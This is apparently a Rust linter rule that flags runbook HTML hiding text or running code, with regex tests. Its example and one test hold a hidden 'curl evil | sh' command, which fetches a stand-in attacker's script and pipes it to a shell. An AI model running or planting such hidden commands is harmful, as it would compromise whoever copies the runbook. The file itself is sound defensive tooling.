//! HTML of an author that hides words or would run.

use std::sync::LazyLock;

use regex::Regex;

use crate::audit::rule::{Check, Context, Rule};
use crate::model::finding::{Confidence, Finding, RuleText, Severity};
use crate::model::place::Span;

/// HTML that hides or runs.
pub(crate) const RULE: Rule = Rule {
    text: RuleText {
        id: "hidden-html",
        summary: "HTML in the runbook hides words, or would run where it is shown as HTML",
        severity: Severity::Warning,
        confidence: Confidence::High,
        checks: "Raw HTML outside of code: styles that hide words (`display:none`, `font-size:0` ...), the attribute `hidden`, elements that run or \
                 embed (`script`, `iframe`, `object`, `embed`, `base`, `meta`), and handlers such as `onclick`. Comments, headings, \
                 images, tables, forms and `details` are left alone.",
        matters: "Handbook pages show it as text, but a forge or an editor may not: words that are hidden there are copied with the rest.",
        example: "<pre>make deploy<span style=\"display:none\">; curl evil | sh</span></pre>",
        fix: "Write it in Markdown, commands in a code block.",
    },
    check: Check::Always(check),
};

static HIDES: LazyLock<Regex> = LazyLock::new(|| {
    let style = r#"style\s*=\s*["']?[^>]*?(?:display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0|opacity\s*:\s*0(?:[^.\d]|$)|text-indent\s*:\s*-\d)"#;
    Regex::new(&format!(
        r"(?i)<(?:[a-z][a-z0-9-]*\s(?:[^>]*\s)?(?:{style}|hidden(?:[\s>=/]|$)|on[a-z]{{3,20}}\s*=)|(?:script|iframe|object|embed|base|meta)[\s>/])"
    ))
    .expect("the pattern is well formed")
});

fn check(context: &Context<'_>, findings: &mut Vec<Finding>) {
    let runbook = &context.runbook.runbook;
    for node in runbook.document.html() {
        let source = node.span.of(&runbook.text);
        if source.trim_start().starts_with("<!--") || is_of_site_builder(source) {
            continue;
        }
        if let Some(found) = HIDES.find(source) {
            let start = node.span.start as usize;
            let span = Span::new(start + found.start(), start + found.end());
            findings.push(Finding {
                message: "this HTML hides words or runs where it is not shown as text".to_owned(),
                help: Some("write it in Markdown".to_owned()),
                reference: Some(found.as_str().chars().take(80).collect()),
                ..context.finding(&RULE.text, Some(span))
            });
        }
    }
}

/// Whether it is the part of a page that `VitePress` and its like compile: `<script setup>`, `<style module>`.
fn is_of_site_builder(source: &str) -> bool {
    let tag = source.trim_start().split('>').next().unwrap_or_default();
    let mut words = tag.split_whitespace();
    matches!(words.next(), Some("<script" | "<style")) && words.any(|word| matches!(word, "setup" | "module"))
}

#[cfg(test)]
mod tests {
    use super::{HIDES, is_of_site_builder};

    #[test]
    fn the_script_of_a_page_that_is_compiled_is_left_alone() {
        assert!(is_of_site_builder("<script setup lang=\"ts\">\n// x\n</script>"));
        assert!(!is_of_site_builder("<script>setup</script>"));
    }

    #[test]
    fn what_hides_or_runs_is_found() {
        for html in [
            "<span style=display:none>; curl evil | sh</span>",
            "<span class=\"x\" style=\"color:red; font-size: 0\">x</span>",
            "<p hidden>x</p>",
            "<script>x</script>",
            "<img src=x onerror=x>",
            "<IFRAME src=x>",
        ] {
            assert!(HIDES.is_match(html), "{html}");
        }
    }

    #[test]
    fn what_is_usual_in_readmes_is_not() {
        for html in [
            "<p align=\"center\">",
            "<img src=\"x.png\" width=\"100\" alt=\"once\">",
            "<details><summary>more</summary>",
            "<br/>",
            "<a href=\"hidden.md\">hidden</a>",
            "<kbd>on</kbd>",
            "<good-tag-or-commit>",
            "<td style=\"opacity:0.5\">",
            "<format>",
            "<form action=\"https://example.org/search\"><input type=\"text\"></form>",
        ] {
            assert!(!HIDES.is_match(html), "{html}");
        }
    }
}
